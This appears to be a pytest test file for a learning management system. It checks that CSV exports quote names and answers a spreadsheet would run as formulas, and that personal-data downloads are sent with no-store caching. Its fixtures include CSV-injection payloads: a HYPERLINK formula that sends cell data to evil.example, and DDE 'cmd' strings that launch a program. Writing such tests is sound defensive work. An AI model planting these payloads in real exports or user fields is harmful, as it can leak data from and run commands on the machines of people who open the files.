"""Exports a spreadsheet cannot turn against its reader, and downloads of personal data that
no browser or proxy keeps a copy of."""

from __future__ import annotations

import csv
import io
import re
from datetime import date

import pytest
from sqlalchemy import select

from lms import audit
from lms.csvexport import safe_cell
from lms.extensions import db
from lms.models import Evidence

from .evidence_helpers import pdf_bytes, upload
from .factories import make_user, sync_content
from .test_compliance import PLAN, complete

# What an attacker would call themselves: each would run as a formula in a spreadsheet.
FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Click here")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]
AS_OF = "2026-11-25"

QUIZ = """\
title = "Formula check"
pass_mark = 50
shuffle = false
[[questions]]
id = "sum"
type = "single"
text = "Which is a formula?"
feedback = "The first."
options = [
  { text = "=1+1", correct = true },
  { text = "-5" },
]
"""


@pytest.fixture
def app_overrides(tmp_path, content):
    path = tmp_path / "plan.toml"
    path.write_text(PLAN)
    return {"TRAINING_PLAN": str(path), "PROJECT_ROOT": content.root}


def rows(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text)))


def attackers() -> list:
    people = []
    for n, name in enumerate(FORMULAS):
        person = make_user(name=name, email=f"p{n}@example.org", categories=("contractor",),
                           start_date=date(2025, 1, 1))
        complete(person, "course", "prevent-refresher", date(2026, 9, 10))
        people.append(person)
    return people


def test_the_rule_quotes_text_that_a_spreadsheet_would_run_and_nothing_else():
    for value in (*FORMULAS, "\t=1+1", "\r=1+1"):
        assert safe_cell(value) == "'" + value
    for value in ("Ada Lovelace", "2026-11-25", "2026-11-25T10:00:00+00:00", "", "a=b", "O'Neill"):
        assert safe_cell(value) == value
    for value in (-2, 3.5, 0, None):  # numbers the LMS writes are written as they are
        assert safe_cell(value) == value


def test_the_compliance_csv_quotes_names_on_the_web_and_at_the_command_line(client, auth, runner, tmp_path):
    attackers()
    make_user(name="Ordinary Person", email="z@example.org", categories=("contractor",), start_date=date(2025, 1, 1))
    auth.login_as("lead", categories=("visitor",))
    response = client.get(f"/dashboard/compliance.csv?as_of={AS_OF}")
    out = tmp_path / "report.csv"
    assert runner.invoke(args=["lms", "report", "csv", "--as-of", AS_OF, "--out", str(out)]).exit_code == 0
    printed = runner.invoke(args=["lms", "report", "csv", "--as-of", AS_OF])
    for text in (response.get_data(as_text=True), out.read_text(), printed.output):
        found = {r["email"]: r for r in rows(text)}
        for n, name in enumerate(FORMULAS):
            row = found[f"p{n}@example.org"]
            assert row["name"] == "'" + name
            # The LMS's own dates stay as they are.
            assert (row["completed_on"], row["valid_until"], row["status"]) == ("2026-09-10", "2027-09-10", "complete")
        assert found["z@example.org"]["name"] == "Ordinary Person"


def _take_quiz(client, auth, name: str) -> None:
    auth.login_as("learner", name=name, email="quiz-taker@example.org")
    started = client.post("/quizzes/formula/start")
    attempt_id = int(re.search(r"/attempts/(\d+)$", started.headers["Location"]).group(1))
    assert client.post(f"/quizzes/formula/attempts/{attempt_id}", data={"q-sum": ["1"]}).status_code == 303


def test_the_quiz_exports_quote_names_and_answers_but_not_numbers_or_times(client, auth, content):
    content.quiz("formula", QUIZ)
    sync_content()
    _take_quiz(client, auth, FORMULAS[2])
    auth.login_as("lead")
    (attempt,) = rows(client.get("/quiz-results/attempts.csv").get_data(as_text=True))
    assert attempt["name"] == "'-2+3" and attempt["email"] == "quiz-taker@example.org"
    assert (attempt["attempt"], attempt["score"], attempt["passed"]) == ("1", "0", "no")
    assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d[+-]\d\d:\d\d", attempt["submitted"])
    (response,) = rows(client.get("/quiz-results/responses.csv").get_data(as_text=True))
    assert response["name"] == "'-2+3" and response["answer"] == "'-5"
    assert (response["position"], response["score"], response["right"]) == ("1", "0", "no")


def test_the_audit_csv_quotes_every_cell_that_would_run(client, auth):
    lead = auth.login_as("lead", email="-2+3@example.org")
    person = make_user(name=FORMULAS[0])
    audit.record("person.updated", person, actor=lead, changes={"name": {"before": "x", "after": FORMULAS[0]}})
    db.session.commit()
    (row,) = rows(client.get("/admin/audit.csv").get_data(as_text=True))
    assert row["actor_email"] == "'-2+3@example.org"
    assert re.fullmatch(r"\d{4}-\d\d-\d\dT[\d:.]+\+00:00", row["when_utc"])
    assert row["target_id"] == str(person.id)


def _no_store(response) -> None:
    assert response.status_code == 200, response.status_code
    assert "attachment" in response.headers["Content-Disposition"]
    assert "no-store" in response.headers["Cache-Control"]


def test_every_download_of_personal_data_is_never_stored(client, auth, content):
    content.quiz("formula", QUIZ)
    sync_content()
    _take_quiz(client, auth, "Quinn Quiz")
    person = attackers()[0]
    auth.login(person)
    _no_store(client.get("/certificates/courses/prevent-refresher.pdf"))
    _no_store(client.get("/certificates/plan.pdf"))
    upload(client, pdf_bytes(), ref="home-office-prevent-awareness")
    evidence = db.session.scalar(select(Evidence))
    _no_store(client.get(f"/evidence/{evidence.id}/file"))

    auth.login_as("admin", categories=("visitor",))
    for url in (
        f"/dashboard/compliance.csv?as_of={AS_OF}",
        f"/dashboard/report.pdf?as_of={AS_OF}",
        "/quiz-results/attempts.csv",
        "/quiz-results/responses.csv",
        "/admin/audit.csv",
    ):
        _no_store(client.get(url))
    _no_store(client.post(f"/admin/people/{person.id}/personal-data", data={}))


def test_static_files_keep_their_caching(client):
    """(Course images, at content-addressed addresses, keep theirs too: tests/test_courses.py.)"""
    response = client.get("/static/lms.css")
    assert response.status_code == 200 and "no-store" not in response.headers.get("Cache-Control", "")
